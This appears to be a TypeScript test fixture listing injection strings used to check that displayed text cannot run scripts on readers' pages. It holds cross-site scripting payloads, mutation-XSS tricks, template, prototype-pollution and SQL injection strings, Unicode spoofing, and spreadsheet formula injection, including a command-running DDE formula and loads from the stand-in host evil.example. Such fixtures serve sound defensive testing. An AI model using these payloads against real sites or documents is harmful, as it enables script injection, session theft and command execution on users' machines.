// Texts that try to run scripts on the pages of their readers. A script that runs sets `window.ran` or requests
// evil.example.

const run = 'window.ran=1'
const evil = 'https://evil.example'
const rightToLeft = String.fromCodePoint(0x202e)
const zeroWidth = String.fromCodePoint(0x200b)

const tags = [
  `<script>${run}</script>`,
  `<ScRiPt src=${evil}/x.js></sCrIpT>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<!--><script>${run}</script-->`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="${evil}/x.swf"></object>`,
  `<embed src="${evil}/x">`,
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<style>@import "${evil}/x.css"; body { display: none }</style>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<form action="${evil}"><button autofocus onfocus="${run}">x</button></form>`,
]

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src="${evil}/x.png">`,
  `<img src=x onerror=${run}//`,
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' onfocus='${run}' autofocus tabindex=1 x='`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<div style="animation-name:x" onanimationstart="${run}">x</div>`,
  `<a href="x" style="background:url(${evil}/x)">x</a>`,
]

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="&#106;avascript:${run}">x</a>`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
]

const foreign = [
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=0 y=9>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<template><script>${run}</script></template>`,
]

const languages = [
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '#{window.ran=1}',
  '<%= window.ran=1 %>',
  '{"__proto__":{"ran":1}}',
  '__proto__',
  `[x](javascript:${run})`,
  `![x](${evil}/x.png)`,
  `<${evil}/x>`,
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
  "'; drop table accounts; --",
]

const shapes = [
  `${rightToLeft}gnp.exe ${rightToLeft}moc.live`,
  `a${zeroWidth}d${zeroWidth}m${zeroWidth}i${zeroWidth}n`,
  'Ü'.repeat(400),
  'afyonkarahisarlılaştıramadıklarımızdanmışsınızcasına'.repeat(6),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '👩🏽‍🎤🎬'.repeat(40),
]

const formulas = [`=HYPERLINK("${evil}";"x")`, `=cmd|' /C calc'!A0`, '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1']

export const injections: readonly string[] = [
  ...tags,
  ...handlers,
  ...addresses,
  ...foreign,
  ...languages,
  ...shapes,
  ...formulas,
]
